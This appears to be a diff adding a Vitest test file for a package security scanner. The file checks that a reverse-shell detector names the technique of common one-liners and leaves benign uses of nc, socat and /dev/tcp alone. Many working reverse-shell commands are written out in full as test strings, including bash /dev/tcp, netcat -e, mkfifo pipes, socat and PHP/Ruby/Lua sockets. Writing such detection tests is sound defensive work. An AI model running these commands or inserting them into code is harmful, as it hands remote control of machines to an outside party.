@@ -1,0 +1,78 @@
+import fs from "node:fs";
+import { describe, expect, it } from "vitest";
+import { analyzeSource } from "@/scanner/analysis/analyze-source";
+import { reverseShellIn } from "@/scanner/analysis/reverse-shell-commands";
+import { CODE_RULES } from "@/scanner/rules/index";
+
+const exec = CODE_RULES.filter((rule) => rule.id === "exec");
+
+describe("reverseShellIn", () => {
+  it("names the technique of the well-known one-liners", () => {
+    expect(reverseShellIn("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")).toBe("a shell reading bash's /dev/tcp");
+    expect(reverseShellIn("0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196")).toBe("a shell reading bash's /dev/tcp");
+    expect(reverseShellIn("sh -i 5<> /dev/tcp/10.0.0.1/4242 0<&5 1>&5 2>&5")).toBe("a shell reading bash's /dev/tcp");
+    expect(reverseShellIn("exec 5<>/dev/tcp/10.0.0.1/4242;cat <&5 | while read line; do $line 2>&5 >&5; done")).toBe("the lines read from bash's /dev/tcp run as commands");
+    expect(reverseShellIn("nc 10.0.0.1 4242 -e sh")).toBe("netcat running a program for the connection");
+    expect(reverseShellIn("busybox nc 10.0.0.1 4242 -e /bin/bash")).toBe("netcat running a program for the connection");
+    expect(reverseShellIn("nc -c bash 10.0.0.1 4242")).toBe("netcat running a program for the connection");
+    expect(reverseShellIn("ncat --lua-exec shell.lua 10.0.0.1 4242")).toBe("netcat running a program for the connection");
+    expect(reverseShellIn("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f")).toBe("a shell piped to and from netcat");
+    expect(reverseShellIn("openssl s_client -quiet -connect 10.0.0.1:4242 | /bin/bash")).toBe("a shell piped to and from netcat");
+    expect(reverseShellIn("socat TCP:10.0.0.1:4242 EXEC:sh")).toBe("socat joining a connection to a program");
+    expect(reverseShellIn("php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"sh <&3 >&3 2>&3\");'")).toBe("PHP's socket made a shell's input");
+    expect(reverseShellIn("ruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"10.0.0.1\",4242))'")).toBe("Ruby's socket made a shell's input");
+    expect(reverseShellIn("node -e 'sh = require(\"child_process\").spawn(\"sh\"); client = new (require(\"net\").Socket)()'")).toBe("Node's socket piped into a shell");
+    expect(reverseShellIn("awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(42) { s |& getline c; c |& getline; close(c) }}' /dev/null")).toBe("awk's /inet/tcp running what it reads");
+    expect(reverseShellIn("lua -e \"require('socket');require('os');t=socket.tcp();t:connect('10.0.0.1','4242');os.execute('sh -i <&3 >&3 2>&3');\"")).toBe("Lua's socket made a shell's input");
+  });
+
+  it("leaves honest use of the same tools alone", () => {
+    for (const line of [
+      "nc -z -w 2 localhost 5432",
+      "nc -l 8080 > received.bin",
+      "telnet -e ^] localhost 25",
+      "echo ping > /dev/tcp/localhost/5432",
+      "exec 3<>/dev/tcp/localhost/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
+      "socat TCP-LISTEN:8080,fork TCP:localhost:80",
+      "curl -fsSL https://example.com/install.sh | sh",
+      "bash -i",
+      "python3 -m http.server 8000",
+      "python3 -c 'import socket; print(socket.gethostname())'",
+      "perl -e 'print 1' | sh",
+      "ssh -i ~/.ssh/deploy host 'git pull'",
+      "shasum -a 256 file | nc -q 0 localhost 9000",
+    ]) {
+      expect(reverseShellIn(line), line).toBeUndefined();
+    }
+  });
+
+  it("searches a line of thousands of shells and netcats in linear time, and not past 64 KB", () => {
+    expect(reverseShellIn("sh -i ".repeat(10_000))).toBeUndefined();
+    expect(reverseShellIn(`${" ".repeat(70_000)}bash -i >& /dev/tcp/10.0.0.1/4242 0>&1`)).toBeUndefined();
+  });
+});
+
+describe("reverse shells run by the package", () => {
+  const file = "test/fixtures/rules/exec/reverse-shells.js";
+  const findings = analyzeSource(file, fs.readFileSync(file, "utf8"), exec).findings;
+  const at = (line: number) => findings.filter((finding) => finding.line === line);
+
+  it("are high, naming the technique, whether run by a shell, as a file's script or an interpreter's", () => {
+    for (const line of [8, 10, 12, 14, 16, 18, 20, 23, 25, 27]) {
+      expect(at(line).map((finding) => finding.severity), `line ${line}`).toContain("high");
+    }
+    expect(at(8).find((finding) => finding.severity === "high")!.message).toBe(
+      "Connects a shell to a network connection (a shell reading bash's /dev/tcp: child_process.exec); whoever is at the other end runs commands on this machine",
+    );
+    expect(at(20).find((finding) => finding.severity === "high")!.message).toContain("Python's socket made a shell's input");
+  });
+
+  it("are not said of a port check, a request over /dev/tcp, a forwarder, a download or telnet", () => {
+    for (const line of [31, 33, 35, 37, 39]) expect(at(line).map((finding) => finding.severity), `line ${line}`).not.toContain("high");
+  });
+
+  it("reads the line a shell is given with -c as exec's own: its programs and /dev/tcp hosts", () => {
+    expect(at(39).map((finding) => finding.message)).toEqual(['Runs "sh" and "curl" (child_process.spawn)']);
+    expect(at(10).map((finding) => finding.message)).toContain("Opens an outbound connection through the shell's /dev/tcp (child_process.spawn) to 203.0.113.7");
+  });
+});
